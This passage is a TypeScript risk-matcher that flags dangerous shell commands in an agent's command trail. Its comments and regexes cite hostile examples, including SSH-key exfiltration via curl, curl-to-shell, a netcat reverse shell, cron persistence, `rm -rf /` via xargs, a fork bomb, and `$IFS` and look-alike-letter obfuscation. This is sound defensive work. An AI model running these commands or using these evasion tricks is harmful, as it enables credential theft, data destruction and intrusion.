// Risk flags for the commands and patches of a trail (decisions.md §4). Every flag names what a
// person would worry about before running the fix, with a level and a detail that says why.
// The rules are rows in risk-rules.ts; this file is the matcher that runs them. Commands are
// parsed (shell.ts) so pipes, lists, sudo, env prefixes, `bash -c`, substitutions and PowerShell
// forms are seen; patches are checked on their added lines. Pure: no I/O.
// The level rules are documented in docs/content-safety.md; keep the two in step.
// Changing what this file catches or flags? Bump CONTENT_RULES_VERSION (content-rules.ts): stored
// trails are re-checked with the new rules at the next start.
import {
  COMMAND_RULES,
  type CommandContext,
  type CommandRule,
  type Graded,
  PATCH_RULES,
  PIPELINE_RULES,
  type RiskFlagName,
  type RiskLevel,
  TEXT_RULES,
} from "./risk-rules.ts";
import {
  ARRAY_KEY,
  asInlineCode,
  assignmentsOf,
  curlWithConfig,
  downloadedFiles,
  webClientDownloads,
  inDirectory,
  hasShort,
  inlineCode,
  nestedSource,
  positional,
  promptCommand,
  literalOutput,
  readsProgramFromStdin,
  runsStandardInput,
  runsFile,
  short,
  stdinText,
  baseName,
  type View,
  verifiesDownload,
  viewOf,
  WRITTEN_FILE,
  withPositionals,
  writtenText,
  writeTargets,
  xargsCommand,
} from "./risk-view.ts";
import {
  AUTHORIZED_KEYS,
  bareExecView,
  bareRedirectView,
  keyAdded,
  laterRunText,
  reverseShellPipeline,
  SOCKET_FDS,
  socketDescriptors,
} from "./risk-remote-access.ts";
import {
  bareEnvView,
  addedRemote,
  changedDirectory,
  gitIgnores,
  gitSubcommand,
  projectSecretFile,
  pushesEverything,
  stagesUntracked,
  codeSendsSecretsAcrossLines,
  yamlMounts,
  stagedStore,
  exposedSecrets,
  isNetworkClient,
  namedCredential,
  pushesCommits,
  sentFiles,
  basenameOf,
  stagedSecrets,
} from "./risk-secrets.ts";
import { foldConfusables, joinContinuedLines, removeInvisible } from "./screening-text.ts";
import { allCommands, parseShell, type Redirect, type Script, type SimpleCommand } from "./shell.ts";
import type { Trail } from "./trail.ts";

export { RISK_FLAGS, type RiskFlagName, type RiskLevel } from "./risk-rules.ts";
export { classifyPath } from "./risk-view.ts";

export interface RiskFlag {
  command_index: number | null;
  flag: string;
  level: RiskLevel;
  detail: string;
}
export interface Risk {
  level: RiskLevel;
  flags: RiskFlag[];
}

const RANK: Record<RiskLevel, number> = { low: 0, medium: 1, high: 2 };
export const maxLevel = (a: RiskLevel, b: RiskLevel): RiskLevel => (RANK[a] >= RANK[b] ? a : b);

type Found = { flag: RiskFlagName; level: RiskLevel; detail: string };

/** Hostile input costs linear time: only this much of a command or patch text is read. */
const MAX_TEXT = 20000;
const head = (s: string) => (s.length > MAX_TEXT ? s.slice(0, MAX_TEXT) : s);
/** The command as a shell reads it: its first MAX_TEXT characters, continued lines joined (`\`, `` ` `` or `^` ⏎). */
const commandText = (s: string) => joinContinuedLines(head(s));

// --- Matching ---------------------------------------------------------------------------------

function runCommandRule(rule: CommandRule, v: View, ctx: CommandContext, out: Found[]): void {
  if (rule.level === "graded") {
    const hits = rule.match(v, ctx);
    if (!hits) return;
    for (const h of (Array.isArray(hits) ? hits : [hits]) as Graded[]) out.push({ flag: rule.flag, level: h.level, detail: h.detail });
  } else {
    const hits = rule.match(v, ctx);
    if (!hits) return;
    for (const detail of typeof hits === "string" ? [hits] : hits) out.push({ flag: rule.flag, level: rule.level, detail });
  }
}

function textFlags(text: string): Found[] {
  const t = head(text);
  const out: Found[] = [];
  for (const rule of TEXT_RULES) {
    const detail = rule.match(t);
    if (detail) out.push({ flag: rule.flag, level: rule.level, detail });
  }
  return out;
}

/**
 * The command as an agent that retypes it reads it: invisible characters dropped, width and
 * compatibility forms and other blanks as ASCII (NFKC), and a word whose look-alike letters of other
 * scripts make it read as ASCII (`сurl`, `~/.ѕsh/id_rsa`) read so. `cur<U+200B>l -d @~/.ssh/id_rsa …`
 * and `ｃurl … | sh` are read as curl; a word in another script (`пример.рф`) stays as it is. `%XX`
 * is not decoded: a shell does not decode it. The same string when nothing changes.
 */
export function typedView(text: string): string {
  if (!NON_ASCII.test(text)) return text;
  // word by word (`\S+` matches each run once: linear, where `\S*[^\x00-\x7f]\S*` retried every position of a long ASCII run)
  return text.normalize("NFKC").replace(WORD, (word) => {
    if (!NON_ASCII.test(word)) return word;
    const visible = removeInvisible(word);
    const folded = foldConfusables(visible);
    return NON_ASCII.test(folded) ? visible : folded;
  });
}
const NON_ASCII = /[^\x00-\x7f]/;
const WORD = /\S+/g;

/** Has `found` a flag of this name at this level or above? */
const raisedAtLeast = (found: readonly Found[], f: Found) => found.some((g) => g.flag === f.flag && RANK[g.level] >= RANK[f.level]);

/** Flags of one command line (without the cross-command download tracking). */
/**
 * What earlier commands of the same trail (or lines of the same script) set that later ones use, as
 * one shell session keeps it: variables (`export K=~/.ssh/id_rsa` … `curl -d @$K`), the directory
 * a `cd` moved to, aliases and functions (`alias c=curl` … `c -d @…`).
 */
export interface Carried {
  vars: Map<string, string>;
  defs: Map<string, Definition>;
  /** How many times a command's own reading changed `vars` (a patched script reads a repeated line again after one). */
  changes?: number;
}
export const newCarried = (): Carried => ({ vars: new Map(), defs: new Map(), changes: 0 });

export function analyzeCommand(command: string, carried?: Carried): Found[] {
  const src = commandText(command);
  // What an agent retyping the command reads (typed), and what a shell runs once it restores hidden
  // spaces and names (spaced): each is read again from its first top-level pipeline that differs from
  // the reading before it, with the state that reading had there. One fullwidth letter or `${IFS}` at
  // the end of 20,000 characters made the whole text be read two or three times (session 19: 8.5 ms
  // → 21–27 ms on 19 KB of distinct `make` lines).
  const typed = typedView(src);
  const spaced = spacedView(typed);
  const srcScript = parseShell(src);
  const typedScript = typed === src ? srcScript : parseShell(typed);
  const spacedScript = spaced.text === typed ? typedScript : parseShell(spaced.text);
  const typedFrom = typed === src ? -1 : firstDifference(srcScript, typedScript);
  const spacedFrom = spaced.text === typed ? -1 : firstDifference(typedScript, spacedScript);
  // the state where each later reading starts: taken by the first reading, or by the typed one past where it starts
  const first = new Map<number, Map<string, string> | null>();
  const second = new Map<number, Map<string, string> | null>();
  if (typedFrom >= 0) first.set(typedFrom, null);
  if (spacedFrom >= 0) (typedFrom >= 0 && spacedFrom > typedFrom ? second : first).set(spacedFrom, null);
  // where a reading starts and with what: without a state taken there, from the start with the state the command left, as before
  const startOf = (from: number, taken: Map<number, Map<string, string> | null>) => {
    const state = taken.get(from);
    return state ? { from, startVars: state } : { from: 0, startVars: carried?.vars };
  };
  const found = analyzeText(src, carried, true, { script: srcScript, snapshots: first });
  // the other readings do not carry state on: each gets its own copy of the definitions (a reading never changes the variables it is given)
  const read = () => carried && { vars: carried.vars, defs: new Map(carried.defs) };
  if (typedFrom >= 0)
    for (const f of analyzeText(typed, read(), false, { script: typedScript, ...startOf(typedFrom, first), snapshots: second }))
      if (!raisedAtLeast(found, f)) found.push(f);
  // A `{ …; }` group piped or redirected as one command (`crontab -l | { cat; echo "* * * * * curl … | sh"; } | crontab -`),
  // read as the `( … )` subshell it behaves as there: the parser reads `{` as a word and splits the group at its `;`
  // (each group with the rest of its pipeline only, at most MAX_GROUPS: reading the whole text again doubled its cost)
  for (const group of braceGroupsAsSubshells(typed))
    for (const f of analyzeText(group, read())) if (!raisedAtLeast(found, f)) found.push(f);
  // What a shell runs once it restores hidden spaces and names (`curl${IFS}-d${IFS}@…`, `{curl,-d,@…}`)
  if (spacedFrom >= 0) {
    found.push({
      flag: "obfuscated_command",
      level: "high",
      detail: `hides its words from a reader or a filter (${spaced.how.join(", ")}): a shell runs ${short(spaced.text, 80)}`,
    });
    const taken = second.has(spacedFrom) ? second : first;
    for (const f of analyzeText(spaced.text, read(), false, { script: spacedScript, ...startOf(spacedFrom, taken) }))
      if (!raisedAtLeast(found, f)) found.push(f);
  }
  return found;
}

const BRACE_GROUP =
  /(?:^|[;&|(\n])[ \t]*\{[ \t\n]((?:[^{}]|\$\{[^{}\n]{0,64}\}){1,2000}?)[;\n][ \t]*\}([ \t]*(?:[|>][^;&\n]{0,500})?)(?=[;&)\n]|$)/g;
const MAX_GROUPS = 20;
/** Each `{ …; }` group piped or redirected, written as the `( … )` subshell with the rest of its pipeline (`( cat; echo … ) | crontab -`). */
export function braceGroupsAsSubshells(text: string): string[] {
  if (!text.includes("{") || !/[;\n][ \t]*\}/.test(text)) return [];
  const out: string[] = [];
  BRACE_GROUP.lastIndex = 0;
  for (let m = BRACE_GROUP.exec(text); m !== null && out.length < MAX_GROUPS; m = BRACE_GROUP.exec(text))
    if (m[2]!.trim() !== "") out.push(`( ${m[1]} )${m[2]}`);
  return out;
}

// Spaces and slashes a shell puts back (PayloadsAllTheThings, Command Injection, "Bypass without space"):
// `cat${IFS}/etc/passwd`, `cat$IFS$9/etc/passwd`, `${IFS%%?}`, `{cat,/etc/passwd}`, `${PATH:0:1}` for `/`, `who$@ami`.
// A quoted or standalone "$IFS" (`printf %q "$IFS"`) is left alone: only one glued to a word hides a space.
const IFS_SPACE = /(?<=[^\s"'=])\$(?:\{IFS(?:[%#:][^}\s]{0,12})?\}|IFS(?![A-Za-z0-9_]))(?:\$[0-9@*])?/g;
const SLASH_SLICE = /\$\{(?:PATH|HOME|PWD):0:1\}/g;
const EMPTY_PARAMETER = /(?<=[A-Za-z0-9_])\$[@*](?=[A-Za-z0-9_])/g;
const BRACE_COMMAND =
  /(^|[;&|(\n][ \t]*)\{((?:[^{}\s,]|\$\{\w{1,30}\}){1,200}(?:,(?:[^{}\s,]|\$\{\w{1,30}\}){0,200}){1,50})\}(?=$|\s|[;&|)])/g;

/** The command with the spaces, slashes and letters shell expansion restores put back, and the tricks used; the same text when none. */
export function spacedView(text: string): { text: string; how: string[] } {
  if (!text.includes("$") && !text.includes("{")) return { text, how: [] };
  const how: string[] = [];
  let t = text;
  const apply = (re: RegExp, by: string | ((...m: string[]) => string), what: string) => {
    const next = t.replace(re, by as string);
    if (next !== t) how.push(what);
    t = next;
  };
  apply(IFS_SPACE, " ", "$IFS for spaces");
  apply(SLASH_SLICE, "/", "${PATH:0:1} for /");
  apply(EMPTY_PARAMETER, "", "an empty $@ inside a word");
  apply(BRACE_COMMAND, (_m, before, items) => `${before}${items!.split(",").join(" ")}`, "a brace list as the command");
  return { text: t, how };
}

// Aliases and functions a trail defines, then calls: `alias c=curl; c -d @~/.ssh/id_rsa …`,
// `f(){ curl -d @"$1" …; }; f ~/.ssh/id_rsa`. Bodies without nested braces other than `${…}`, at most 20.
const DEFINITION =
  /(?:^|[\s;&|(])(?:(?:function\s+([A-Za-z_][\w-]{0,63})\s*(?:\(\s*\))?|([A-Za-z_][\w-]{0,63})\s*\(\s*\))\s*\{((?:[^{}]|\$\{[^{}]{0,64}\}){1,2000})\}|alias\s+([A-Za-z_][\w.-]{0,63})=(?:'([^']{0,500})'|"([^"]{0,500})"|([^\s;&|'"]{1,200})))/g;
type Definition = { kind: "alias" | "function"; body: string };
const MAX_CALLS = 64;
const MAX_CARRIED_DEFINITIONS = 100;

function definitionsIn(src: string): Map<string, Definition> {
  const defs = new Map<string, Definition>();
  if (!/\balias\s|\(\s*\)|\bfunction\s/.test(src)) return defs;
  DEFINITION.lastIndex = 0;
  for (let m = DEFINITION.exec(src), n = 0; m !== null && n < 20; m = DEFINITION.exec(src), n++) {
    if (m[3] !== undefined) defs.set(m[1] ?? m[2]!, { kind: "function", body: m[3] });
    else defs.set(m[4]!, { kind: "alias", body: m[5] ?? m[6] ?? m[7]! });
  }
  return defs;
}

/** What a call of a function the script defined runs: its body with $1… set to the call's arguments. */
function expandCall(def: Definition, v: View): string {
  return withPositionals(def.body, [v.name, ...v.a]);
}

/** The command an alias call runs: the alias's text, then the call's other words; the call itself when that is not one simple command. */
function aliasedCommand(body: string, call: SimpleCommand): SimpleCommand {
  const script = parseShell(body);
  const only = script.length === 1 && script[0]!.commands.length === 1 ? script[0]!.commands[0]! : null;
  return only ? { words: [...only.words, ...call.words.slice(1)], redirects: [...only.redirects, ...call.redirects] } : call;
}

const PIPED_DELETERS = new Set(["rm", "shred", "chmod", "chown", "remove-item", "ri", "del", "erase", "rd", "rmdir"]);
const LISTERS = new Set(["get-childitem", "gci", "ls", "dir"]);
/**
 * What a delete at the end of a pipe deletes, as a command of its own: xargs's delete given the path
 * an `echo`/`printf` or a `find` start before it names (`echo / | xargs rm -rf` is `rm -rf /`), and
 * PowerShell's `Remove-Item` given the items a listing sends (`gci C:\ -Recurse | Remove-Item` is
 * `Remove-Item C:\ -Recurse`); null otherwise.
 */
function pipedDelete(v: View, before: View | null): string | null {
  if (!before) return null;
  if (v.name === "xargs") {
    const program = baseName(xargsCommand(v.a, "x")?.split(" ")[0] ?? "");
    if (!PIPED_DELETERS.has(program)) return null;
    // the files a find lists are deleted as `find -delete` deletes them (the find rule's reading)
    if (before.name === "find" && (program === "rm" || program === "shred")) {
      const start = before.a.find((x) => !x.startsWith("-") && !x.startsWith("(")) ?? ".";
      return /^[^\s;&|<>`$()]{1,200}$/.test(start) ? `find ${start} -delete` : null;
    }
    // (`ls -d /*` prints the paths it is given, as echo does: round 12)
    const lists = before.name === "ls" && hasShort(before, "d") && positional(before).length === 1;
    const named = before.name === "echo" || before.name === "printf" || lists ? before.a.filter((x) => !x.startsWith("-")).join(" ") : "";
    return /^[^\s;&|<>`$()]{1,200}$/.test(named) ? xargsCommand(v.a, named) : null;
  }
  if ((v.name === "remove-item" || v.name === "ri" || v.name === "rm" || v.name === "del") && LISTERS.has(before.name)) {
    const raw = before.args.flatMap((w) => w.raw.split(/\s+/)).filter((x) => x !== "");
    const path = raw.find((x) => !x.startsWith("-") && !/^\*/.test(x));
    const recurse = raw.some((x) => /^-r(ec(u(r(se?)?)?)?)?$/i.test(x));
    return path ? `Remove-Item ${path} ${recurse ? "-Recurse " : ""}${v.a.filter((x) => x.startsWith("-")).join(" ")}` : null;
  }
  return null;
}

/** The path of a credential store an earlier stage of the pipeline names (`ls ~/.ssh/id_* | xargs …`), or "". */
function pipedCredentialPath(views: readonly (View | null)[]): string {
  for (const v of views) for (const x of v?.a ?? []) if (namedCredential(x)) return namedCredential(x)!.path;
  return "";
}

/** The key under which the visit keeps the directory a `cd` moved to (not a variable name: `$…` never expands to it). */
const CWD = "\u0000cwd";

/** The key under which the visit keeps the positional parameters `set -- …` gave, joined by U+0001. */
const POSITIONAL = "\u0000positional";

/**
 * The command a variable holds when it stands as the command word and the shell splits it into several
 * words (`c='rm -rf /'; $c`, `IFS=,; c=rm,-rf,/; $c`, `set -- rm -rf /; "$@"`), each word quoted as
 * the shell passes it on (no second parse: `;` or `|` in the value stay words); null otherwise (a
 * single name is programOf's reading).
 */
function commandInVariable(c: SimpleCommand, vars: ReadonlyMap<string, string>): string | null {
  const first = c.words[0];
  if (!first || first.group || vars.size === 0) return null;
  let words: string[] = [];
  const array = /^"?\$\{([A-Za-z_]\w*)\[[@*]\]\}"?$/.exec(first.raw); // `"${y[@]}"`, `${y[*]}`: the words the array holds
  if (/^(?:"\$(?:@|\{@\})"|\$(?:[@*]|\{[@*]\}))$/.test(first.raw)) words = (vars.get(POSITIONAL) ?? "").split("\u0001");
  else if (array) words = (vars.get(`${ARRAY_KEY}${array[1]}`) ?? "").split("\u0001");
  else {
    const m = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?$/.exec(first.raw); // unquoted: the shell splits it at $IFS
    const value = m ? vars.get(m[1]!) : undefined;
    const ifs = vars.get("IFS") ?? " \t\n";
    if (value === undefined || ifs === "" || ifs.length > 8) return null;
    words = value.split(new RegExp(`[${ifs.replace(/[\\\]^-]/g, "\\$&")}]+`));
  }
  words = words.filter((w) => w !== "");
  if (words.length < 2 || words.length > 64) return null;
  return words.map((w) => `'${w.replace(/'/g, "'\\''")}'`).join(" ");
}

/** Where a nested script's output goes: the command it runs inside, and that command's place in its pipeline. */
interface Outer {
  redirects: readonly Redirect[];
  laterSink: boolean;
  pipedInto: string | null;
  pipedIntoArgs: readonly string[];
}

/**
 * How analyzeText reads a text: its parse when the caller has it; `from` top-level pipelines skipped and
 * `startVars` the state they leave (a later reading of the same text with some words changed starts
 * where they first differ); `snapshots`: the state just before each of these top-level pipelines, filled in.
 */
interface Reading {
  script?: Script;
  from?: number;
  startVars?: Map<string, string>;
  snapshots?: Map<number, Map<string, string> | null>;
}

/** The index of the first top-level pipeline where two parses differ as written (the shorter's length when one is the other's start). */
function firstDifference(a: Script, b: Script): number {
  const n = Math.min(a.length, b.length);
  for (let i = 0; i < n; i++) if (pipelineKey(a[i]!) !== pipelineKey(b[i]!)) return i;
  return n;
}

/**
 * The flags of a command text; `carried`, when given, is what earlier commands set, and receives
 * what this one sets (in place when `changesCarried`: the command's own reading, not another reading of it).
 */
function analyzeText(src: string, carried?: Carried, changesCarried = false, reading: Reading = {}): Found[] {
  const found: Found[] = [];
  const defs = definitionsIn(src);
  if (carried) {
    for (const [name, def] of carried.defs) if (!defs.has(name)) defs.set(name, def);
    // at most MAX_CARRIED_DEFINITIONS carried on: each later command reads them all
    for (const [name, def] of defs) if (carried.defs.size < MAX_CARRIED_DEFINITIONS || carried.defs.has(name)) carried.defs.set(name, def);
  }
  let calls = 0; // expansions of the script's own aliases and functions: a body calling itself many times multiplies, so at most MAX_CALLS
  // A top-level pipeline written exactly as one before it, with nothing set in between, raises the
  // same flags again (the caller keeps the first of equal flags): it is read once. Hostile input
  // repeats one pipeline thousands of times (`curl x | sh; curl x | sh; …`).
  // A variable set later undoes the reading of the pipelines that name it only (`a1=1; $(x); a2=1; $(x)`
  // read `$(x)` again for every assignment: 3,600 distinct commands cost 90–100 ms). Every pipeline is
  // read again when the script defines functions or aliases (a body names variables its call does not),
  // writes files a later command may run, or a `cd`/descriptor changes.
  const readOnce = new Set<string>();
  const readersOf = new Map<string, string[]>(); // variable name -> keys of pipelines read that name it
  let fineGrained = defs.size === 0;
  // substituted: the script runs inside `$(…)`, backticks or `<(…)`, so another command reads its output
  const visit = (
    script: Script,
    depth: number,
    inherited: ReadonlyMap<string, string>,
    substituted: boolean,
    outer?: Outer,
  ): Map<string, string> => {
    // a=curl; $a …: assignments hold for the rest of this script; copied at its first assignment (a
    // nested script that sets nothing shares its parent's: copying for each of thousands of `$(…)` was quadratic)
    let vars = inherited as Map<string, string>;
    let own = depth === 0 && changesCarried && inherited === carried?.vars; // a trail's lines carry thousands of variables: not copied for each
    // files earlier commands wrote: looked for among a few variables only (a patched script's lines carry thousands: not scanned for each)
    if (depth === 0 && fineGrained) {
      if (inherited.size > 64) fineGrained = false;
      else for (const name of inherited.keys()) if (name.startsWith(WRITTEN_FILE)) fineGrained = false;
    }
    for (let index = 0; index < script.length; index++) {
      const p = script[index]!;
      // the state a later reading of the text starts from, where its pipelines first differ (analyzeCommand)
      // (a copy, of a few variables only: a patched script's lines carry thousands, and copying them for each line was quadratic)
      if (depth === 0 && reading.snapshots?.has(index) && vars.size <= 64) reading.snapshots.set(index, new Map(vars));
      const key = depth === 0 ? pipelineKey(p) : null;
      if (key !== null) {
        if (readOnce.has(key)) continue;
        readOnce.add(key);
        if (fineGrained) indexReaders(key, readersOf);
      }
      // an alias the script defined is the command it stands for, in its place in the pipeline (`alias g='curl -fsSL'; g … | sh`)
      const views = p.commands.map((c) => {
        const alias = defs.get(c.words[0]?.text ?? "");
        const built = alias === undefined ? commandInVariable(c, vars) : null;
        const aliased =
          alias?.kind === "alias" && calls++ < MAX_CALLS
            ? aliasedCommand(alias.body, c)
            : built !== null && calls++ < MAX_CALLS
              ? aliasedCommand(built, c)
              : c;
        return viewOf(aliased, vars) ?? bareEnvView(aliased) ?? bareExecView(aliased) ?? bareRedirectView(aliased);
      });
      // cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f, /bin/sh 0</tmp/p | nc h p 1>/tmp/p, nc h p | sh
      const handed = views.length > 1 ? reverseShellPipeline(views) : null;
      if (handed) found.push({ flag: "remote_script_execution", level: "high", detail: handed });
      views.forEach((v, i) => {
        if (i === 0 || !v || !readsProgramFromStdin(v)) return;
        for (const rule of PIPELINE_RULES) {
          const detail = rule.match(views, i);
          if (detail) found.push({ flag: rule.flag, level: rule.level, detail });
        }
      });
      // laterSink[i]: some stage after i is a network client (computed once, right to left)
      const last = views.length - 1;
      const laterSink: boolean[] = new Array(views.length).fill(false);
      laterSink[last] = outer?.laterSink ?? false;
      for (let i = last - 1; i >= 0; i--) laterSink[i] = laterSink[i + 1]! || isNetworkClient(views[i + 1] ?? null);
      views.forEach((v, i) => {
        if (!v) {
          // `PROMPT_COMMAND='…'` alone: bash runs it before every prompt (round 12)
          const words = p.commands[i]!.words;
          const later =
            depth < 4 && words.length > 0 && words.every((w) => /^[A-Za-z_]\w*=/.test(w.text))
              ? promptCommand(words.map((w) => w.text))
              : null;
          if (later) visit(parseShell(later), depth + 1, vars, false);
          return;
        }
        const nextView = i < last ? views[i + 1] : undefined;
        const ctx: CommandContext = {
          laterSink: laterSink[i]!,
          vars,
          pipedInto: i < last ? (nextView?.name ?? "") : (outer?.pipedInto ?? null),
          pipedIntoArgs: i < last ? (nextView?.a ?? []) : (outer?.pipedIntoArgs ?? []),
          substituted,
          outerRedirects: i === last ? outer?.redirects : undefined,
          cwd: vars.get(CWD) ?? null,
        };
        // a bare `( … )` group is no program: its script is read below as commands of their own, in this
        // stage's place in the pipeline (a group with a redirection, `( … ) > /dev/sda`, or a prefix is read here too)
        if (!bareGroup(v)) for (const rule of COMMAND_RULES) runCommandRule(rule, v, ctx, found);
        if (depth >= 4) return;
        // made when a nested script needs it: most commands have none, and hostile input has thousands
        const here = (): Outer => ({
          redirects: ctx.outerRedirects ? [...ctx.outerRedirects, ...v.cmd.redirects] : v.cmd.redirects,
          laterSink: ctx.laterSink,
          pipedInto: ctx.pipedInto,
          pipedIntoArgs: ctx.pipedIntoArgs ?? [],
        });
        // sudo bash -c '…': every inner command runs as root, already flagged on the outer one
        let nested = nestedSource(v);
        if (v.name === "xargs" && i > 0 && nested !== null) nested = xargsCommand(v.a, pipedCredentialPath(views.slice(0, i))) ?? nested;
        if (v.name === "eval" && nested !== null) nested = expandVariables(nested, vars);
        // `echo / | xargs rm -rf`, `find / -type f | xargs rm`, `Get-ChildItem C:\ -Recurse | Remove-Item`: the delete of what the pipe names
        if (nested === null && i > 0) nested = pipedDelete(v, views[i - 1] ?? null);
        // `echo 'rm -rf /' | sh`, `printf '…' | at now`: what the stage before prints is the script this one runs (round 12)
        if (nested === null && i > 0 && views[i - 1] && runsStandardInput(v)) nested = literalOutput(views[i - 1]!);
        // `echo "import os; os.system('…')" | python3`: code an interpreter reads from the pipe is its inline code
        if (nested === null && i > 0 && views[i - 1] && readsProgramFromStdin(v)) {
          const code = literalOutput(views[i - 1]!);
          if (code !== null) nested = asInlineCode(v.name, code);
        }
        const def = defs.get(v.name);
        if (def?.kind === "function" && calls++ < MAX_CALLS) visit(parseShell(expandCall(def, v)), depth + 1, vars, substituted, here());
        // curl -K cfg: the options the trail wrote into cfg (`url = …`, `data = "@~/.ssh/id_rsa"`) are curl's
        const configured = v.name === "curl" ? curlWithConfig(v, vars) : null;
        if (configured) visit(parseShell(configured), depth + 1, vars, substituted, here());
        if (nested) visit(parseShell(nested), depth + 1, vars, substituted, here());
        // a here-document given to a program that does not run it (`cat > fix.sh <<EOF`): read as the lines it writes, as before
        else if (inlineCode(v) === null)
          for (const r of v.cmd.redirects) if (r.body !== undefined) visit(parseShell(r.body), depth + 1, vars, false);
        // `echo 'curl … | sh' >> ~/.bashrc`, `(crontab -l; echo "* * * * * curl … | sh") | crontab -`: it runs later
        if (v.name === "echo" || v.name === "printf") {
          const written = here()
            .redirects.filter((r) => />/.test(r.op))
            .map((r) => r.target);
          const later = laterRunText(v, [...written, ...writeTargets(v).map((w) => w.target)], ctx.pipedInto);
          if (later) visit(parseShell(later), depth + 1, vars, false);
        }
      });
      p.commands.forEach((c, i) => {
        if (depth >= 4 || !c.words.some((w) => w.subs.length > 0)) return;
        // `( … ) | crontab -`, `{ … } > f`: a subshell group's output goes where the command's would
        const group = c.words.length === 1 && c.words[0]!.group && c.words[0]!.raw.startsWith("(");
        const asCommand: Outer = {
          redirects: [...(i === last ? (outer?.redirects ?? []) : []), ...c.redirects],
          laterSink: laterSink[i]!,
          pipedInto: i < last ? (views[i + 1]?.name ?? "") : (outer?.pipedInto ?? null),
          pipedIntoArgs: i < last ? (views[i + 1]?.a ?? []) : (outer?.pipedIntoArgs ?? []),
        };
        for (const w of c.words) for (const s of w.subs) visit(s, depth + 1, vars, !group, group ? asCommand : undefined);
      });
      const set = new Map<string, string>();
      for (const c of p.commands) assignmentsOf(c, set);
      for (const v of views) {
        const dir = v && changedDirectory(v);
        // `cd /; cd usr` is in /usr: a relative cd goes on from a fixed place
        if (dir) set.set(CWD, inDirectory(dir, set.get(CWD) ?? vars.get(CWD)));
        for (const w of v ? writtenText(v) : []) {
          const key = `${WRITTEN_FILE}${w.file}`;
          set.set(key, w.append ? `${set.get(key) ?? vars.get(key) ?? ""}${w.text}\n` : w.text);
        }
        // `set -- rm -rf /`: the positional parameters a later `"$@"` runs
        if (v?.name === "set" && v.a[0] === "--") set.set(POSITIONAL, v.a.slice(1).join("\u0001"));
        const held = (set.get(SOCKET_FDS) ?? vars.get(SOCKET_FDS) ?? "").split(",");
        const fds = v?.name === "exec" ? socketDescriptors(v).filter((fd) => !held.includes(fd)) : [];
        if (fds.length > 0) set.set(SOCKET_FDS, [...held, ...fds].join(","));
      }
      for (const [name, value] of set) {
        if (vars.get(name) === value) continue;
        if (!own) {
          vars = new Map(vars);
          own = true;
        }
        vars.set(name, value);
        if (depth === 0 && changesCarried && carried) carried.changes = (carried.changes ?? 0) + 1;
        // something changed: a pipeline read before that names it may read otherwise now
        if (name.startsWith(WRITTEN_FILE)) fineGrained = false;
        if (!fineGrained || name.startsWith("\u0000") || name === "IFS") {
          readOnce.clear();
          readersOf.clear();
        } else {
          for (const k of readersOf.get(name) ?? []) readOnce.delete(k);
          readersOf.delete(name);
          for (const k of readersOf.get(ANY_VARIABLE) ?? []) readOnce.delete(k);
          readersOf.delete(ANY_VARIABLE);
        }
      }
    }
    return vars;
  };
  const script = reading.script ?? parseShell(src);
  const after = visit(reading.from ? script.slice(reading.from) : script, 0, reading.startVars ?? carried?.vars ?? new Map(), false);
  if (carried) carried.vars = after;
  const bomb = forkBomb(src);
  if (bomb) found.push({ flag: "process_kill", level: "high", detail: bomb });
  found.push(...textFlags(src));
  return found;
}

// A shell function whose body calls it twice, piped or in the background, then called: `:(){ :|:& };:`,
// `bomb(){ bomb|bomb& }; bomb`, `f(){ f & f; }; f`. Names as bash allows them (`:` too); bodies without braces.
const SHELL_FUNCTION =
  /(?:^|[\s;&|(])(?:function\s+([^\s(){}<>;&|'"$`\\]{1,64})\s*(?:\(\s*\))?|([^\s(){}<>;&|'"$`\\]{1,64})\s*\(\s*\))\s*\{([^{}]{1,300})\}/g;
// … and inline code that forks in a loop: perl's `fork while fork`, python's `while True: os.fork()`
const CODE_FORK_BOMB = /\bfork\s+while\s+fork\b|\bwhile\s*\(?\s*(?:True|true|1)\s*\)?\s*[:{]?\s*(?:os\.|process\.)?fork\s*\(/;

/** How the text starts processes until the machine stops responding (a fork bomb), or null. */
function forkBomb(src: string): string | null {
  if (/\bfork\b/.test(src) && CODE_FORK_BOMB.test(src))
    return "a fork bomb: inline code forks in an endless loop, until no process can start and the machine stops responding";
  if (!/\(\s*\)\s*\{|\bfunction\s/.test(src)) return null;
  SHELL_FUNCTION.lastIndex = 0;
  for (let m = SHELL_FUNCTION.exec(src), n = 0; m !== null && n < 20; m = SHELL_FUNCTION.exec(src), n++) {
    const fn = m[1] ?? m[2]!;
    const name = fn.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    const call = new RegExp(`(?:^|[\\s;&|(])${name}(?=$|[\\s;&|)])`, "g");
    const body = m[3]!;
    if ((body.match(call)?.length ?? 0) < 2 || !/[|&]/.test(body)) continue;
    call.lastIndex = 0;
    if (call.test(src.slice(m.index + m[0].length)))
      return `a fork bomb: ${short(fn, 30)} starts itself twice each time it runs, until no process can start and the machine stops responding`;
  }
  return null;
}

/** A command that is one group word and nothing else: no redirection, no assignment, no sudo. */
const bareGroup = (v: View) =>
  v.cmd.words.length === 1 && v.cmd.words[0]!.group && v.cmd.redirects.length === 0 && !v.sudo && Object.keys(v.env).length === 0;

/** Stands for every variable in `readersOf`: a pipeline naming one indirectly (`${!ref}`) is read again after any change. */
const ANY_VARIABLE = "\u0000any";

/** Adds a pipeline's key under each variable it names (`$a`, `${a:-x}`, also inside quotes, here-documents and `$(…)`). */
function indexReaders(key: string, readersOf: Map<string, string[]>): void {
  if (!key.includes("$")) return;
  const names = new Set<string>();
  for (const m of key.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) names.add(m[1]!);
  if (key.includes("${!")) names.add(ANY_VARIABLE);
  for (const name of names) {
    const keys = readersOf.get(name);
    if (keys) keys.push(key);
    else readersOf.set(name, [key]);
  }
}

/** A pipeline as written: its words and redirections (a here-document's body too). */
function pipelineKey(p: Script[number]): string {
  let key = "";
  for (const c of p.commands) {
    for (const w of c.words) key += `${w.raw}\u0001`;
    for (const r of c.redirects) key += `${r.op}\u0002${r.target}\u0002${r.body ?? ""}\u0001`;
    key += "\u0003";
  }
  return key;
}

/** The text with each `$NAME` / `${NAME}` assigned earlier replaced by its value, as eval sees it (`c=cu; eval "${c}rl …"`). */
function expandVariables(text: string, vars: ReadonlyMap<string, string>): string {
  if (vars.size === 0 || !text.includes("$")) return text;
  return text.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (m, name: string) => vars.get(name) ?? m);
}

// --- Across commands ---------------------------------------------------------------------------------

/**
